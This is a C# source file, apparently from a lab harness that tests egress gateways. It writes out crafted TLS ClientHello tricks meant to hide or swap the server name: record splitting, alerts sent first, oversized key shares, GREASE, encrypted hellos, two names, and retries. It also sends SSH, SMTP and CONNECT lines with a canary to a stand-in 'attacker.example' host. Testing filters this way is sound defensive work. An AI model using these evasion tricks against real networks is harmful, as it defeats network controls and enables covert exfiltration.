using System.Net.Sockets;
using System.Text;

namespace Exeat.Lab.Attacks.Streams;

/// <summary>What a hello may say, and how it may be wrapped, so that a gateway reads no name or another one (T4 to T8); and what is no TLS at all (T9).</summary>
internal static class HelloTricks
{
    private const ushort EncryptedHello = 0xfe0d, SupportedGroups = 10, KeyShare = 51, QuantumGroup = 0x11ec;
    private const int QuantumKeyBytes = 1216;
    private const int Seed = 11;

    private static readonly byte[] CipherChange = [20, 3, 3, 0, 1, 1], Warning = [21, 3, 3, 0, 2, 1, 112];

    /// <summary>The meant hello in records of one byte, except for the name, which lies in one.</summary>
    public static Task<bool> RecordsAsync(AttackTarget target) => SayAsync(target, InRecords(target, empty: false));

    /// <summary>The same, with a record of no bytes before each.</summary>
    public static Task<bool> EmptyRecordsAsync(AttackTarget target) => SayAsync(target, InRecords(target, empty: true));

    /// <summary>A warning first, and the meant hello behind it.</summary>
    public static Task<bool> AlertFirstAsync(AttackTarget target) => SayAsync(target, [.. Warning, .. SegmentTricks.Meant(target)]);

    /// <summary>A change of cipher first, and the meant hello behind it.</summary>
    public static Task<bool> CipherFirstAsync(AttackTarget target) => SayAsync(target, [.. CipherChange, .. SegmentTricks.Meant(target)]);

    /// <summary>A post-quantum key before the name, which comes last: more than a segment.</summary>
    public static Task<bool> QuantumAsync(AttackTarget target)
    {
        byte[] share = [QuantumGroup >> 8, QuantumGroup & 0xff, QuantumKeyBytes >> 8, QuantumKeyBytes & 0xff, .. Enumerable.Repeat((byte)5, QuantumKeyBytes)];
        byte[] padding = [.. Enumerable.Repeat((byte)0, 300)];
        var draft = new ClientHelloDraft { Name = SegmentTricks.MeantName(target), IsNameLast = true, More = [(0x3a3a, share), (21, padding)] };
        return SayAsync(target, draft.WriteRecord());
    }

    /// <summary>TLS 1.3 alone, made-up suites, extensions and versions (RFC 8701), in an order of its own.</summary>
    public static Task<bool> GreaseAsync(AttackTarget target)
    {
        var draft = new ClientHelloDraft
        {
            Name = SegmentTricks.MeantName(target),
            Versions = [0x7a, 0x7a, 3, 4],
            MoreSuites = [0x0a, 0x0a],
            More = [(0x1a1a, []), (0xdada, [0]), (EncryptedHello, Encrypted())],
            Shuffle = Seed,
        };
        return SayAsync(target, draft.WriteRecord());
    }

    /// <summary>A real encrypted hello: who is meant only the server can read. The outer name is the permitted one; the mark travels in the session id.</summary>
    public static Task<bool> EncryptedAsync(AttackTarget target) =>
        SayAsync(target, new ClientHelloDraft { Name = target.Name, Token = target.Canary, More = [(EncryptedHello, Encrypted())] }.WriteRecord());

    /// <summary>The same with another outer name: the mark is in it.</summary>
    public static Task<bool> EncryptedOtherAsync(AttackTarget target) =>
        SayAsync(target, new ClientHelloDraft { Name = SegmentTricks.MeantName(target), More = [(EncryptedHello, Encrypted())] }.WriteRecord());

    /// <summary>A claimed hello that makes the server ask for another, which is the meant one.</summary>
    public static Task<bool> RetryAsync(AttackTarget target) => SayAsync(
        target,
        new ClientHelloDraft { Name = target.Name, AsksForRetry = true, Versions = [3, 4] }.WriteRecord(),
        [.. CipherChange, .. new ClientHelloDraft { Name = SegmentTricks.MeantName(target), Versions = [3, 4] }.WriteRecord()]);

    /// <summary>Two names in one hello: the permitted one first, and the one with the mark.</summary>
    public static Task<bool> TwoNamesAsync(AttackTarget target)
    {
        byte[] list = [.. ServerName(target.Name), .. ServerName(SegmentTricks.MeantName(target))];
        return SayAsync(target, new ClientHelloDraft { More = [(0, [(byte)(list.Length >> 8), (byte)list.Length, .. list])] }.WriteRecord());
    }

    /// <summary>The permitted address itself as a name, the mark in the session id.</summary>
    public static Task<bool> AddressNameAsync(AttackTarget target) => SayAsync(target, new ClientHelloDraft { Name = $"{target.Address}", Token = target.Canary }.WriteRecord());

    /// <summary>An empty name, the mark in the session id.</summary>
    public static Task<bool> EmptyNameAsync(AttackTarget target) => SayAsync(target, new ClientHelloDraft { Name = "", Token = target.Canary }.WriteRecord());

    /// <summary>Another protocol, on the port of TLS.</summary>
    public static Task<bool> SpeakAsync(AttackTarget target, string protocol) => SayAsync(target, Encoding.ASCII.GetBytes(protocol switch
    {
        "ssh" => $"SSH-2.0-{target.Canary}\r\n",
        "smtp" => $"EHLO {target.Canary}.attacker.example\r\nSTARTTLS\r\n",
        "connect" => $"CONNECT {target.Canary}.attacker.example:443 HTTP/1.1\r\nHost: {target.Name}\r\n\r\n",
        _ => $"\u0001\u0002{target.Canary}",
    }));

    /// <summary>Another protocol, after a wait for the server's greeting.</summary>
    public static Task<bool> SpeakLateAsync(AttackTarget target) => SayAsync(target, [], Encoding.ASCII.GetBytes($"\u0001{target.Canary}"));

    private static byte[] ServerName(string name) => [0, (byte)(name.Length >> 8), (byte)name.Length, .. Encoding.ASCII.GetBytes(name)];

    // Outer, HKDF-SHA256 with AES-128-GCM, a config id, a key, a sealed hello (draft-ietf-tls-esni, 5).
    private static byte[] Encrypted() => [0, 0, 1, 0, 1, 0x42, 0, 32, .. Enumerable.Repeat((byte)9, 32), 0, 208, .. Enumerable.Repeat((byte)7, 208)];

    private static byte[] InRecords(AttackTarget target, bool empty)
    {
        byte[] message = new ClientHelloDraft { Name = SegmentTricks.MeantName(target) }.Write();
        int name = message.AsSpan().IndexOf(Encoding.ASCII.GetBytes(target.Canary));
        List<byte> stream = [];
        for (int at = 0; at < message.Length;)
        {
            int length = at == name ? target.Canary.Length : 1;
            if (empty) stream.AddRange(ClientHelloDraft.Record([]));
            stream.AddRange(ClientHelloDraft.Record(message.AsSpan(at, length)));
            at += length;
        }
        return [.. stream];
    }

    // Each write after the answer to the one before; where there is nothing to write, the server's word is waited for.
    private static async Task<bool> SayAsync(AttackTarget target, params byte[][] writes)
    {
        await target.ResolveAsync();
        using Socket socket = await AttackTarget.ConnectAsync(target.EndPoint);
        byte[] answer = new byte[4096];
        int got = 0;
        foreach (byte[] bytes in writes)
        {
            using var limit = new CancellationTokenSource(bytes.Length == 0 ? TimeSpan.FromMilliseconds(400) : AttackTarget.Patience, TimeProvider.System);
            if (bytes.Length > 0) await socket.SendAsync(bytes, limit.Token);
            try
            {
                got = await socket.ReceiveAsync(answer, limit.Token);
            }
            catch (OperationCanceledException) when (bytes.Length == 0)
            {
                // It greets nobody.
            }
        }
        return got > 0;
    }
}
